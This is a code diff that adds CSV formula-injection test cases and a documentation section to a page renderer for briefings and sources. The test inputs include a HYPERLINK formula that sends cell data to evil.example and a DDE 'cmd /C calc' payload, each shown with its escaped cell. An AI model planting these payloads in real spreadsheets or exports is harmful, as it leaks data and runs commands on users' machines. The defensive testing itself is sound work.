@@ -671,6 +671,18 @@ COMMAND_CASES += (
 )
 
 
+# A text (fact, section title, outlet) and the CSV cell it becomes: whatever a spreadsheet could read as
+# the start of a formula gets a leading apostrophe (OWASP); the JSON keeps the text as written.
+CSV_CASES: tuple[tuple[str, str], ...] = (
+    ('=HYPERLINK("https://evil.example/?"&A1, "Click")', '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'),
+    ("+1 more contact, the ministry said", "'+1 more contact, the ministry said"),
+    ("-5% of the budget, according to the ministry", "'-5% of the budget, according to the ministry"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\uff1d1+1, in full-width characters", "'\uff1d1+1, in full-width characters"),
+    ("The minister said =1+1 in the middle.", "The minister said =1+1 in the middle."),
+)
+
+
 def _command_rows(category: str) -> list[str]:
     lines = ["", f"### {category}", "", "| case | command | exit | expected output |", "|---|---|---|---|"]
     for case in (c for c in COMMAND_CASES if c.category == category):
@@ -706,6 +718,26 @@ def render_page() -> str:
     ]
     for category in dict.fromkeys(c.category for c in COMMAND_CASES):
         lines += _command_rows(category)
+    lines += [
+        "",
+        "## Spreadsheet formulas in the CSV",
+        "",
+        "Each text, written as a fact, a section title and an outlet, becomes this cell in "
+        "`data/briefings/<id>.csv` (`tests/test_outputs.py`); the JSON export keeps it as written.",
+        "",
+        "| text | CSV cell |",
+        "|---|---|",
+        *(f"| `{text.replace('|', '&#124;')}` | `{cell.replace('|', '&#124;')}` |" for text, cell in CSV_CASES),
+        "",
+        "## Output paths",
+        "",
+        "- Per-item outputs live in their own folders (`briefings/<id>.md`, `sources/<id>.md`, "
+        "`data/briefings/<id>.json` and `.csv`), where no fixed output is, and ids hold no `/` or `.`: briefings "
+        "and sources named `briefings`, `annotations`, `sources`, `index`, `data`, `schemas`… take no other "
+        "output, for any set of ids (Hypothesis); `generate` refuses two outputs at one path, and the MkDocs "
+        "hook refuses a hand-written page that MkDocs would publish where a generated one goes "
+        "(`tests/test_outputs.py`).",
+    ]
     lines += [
         "",
         "## Properties and fuzzing",
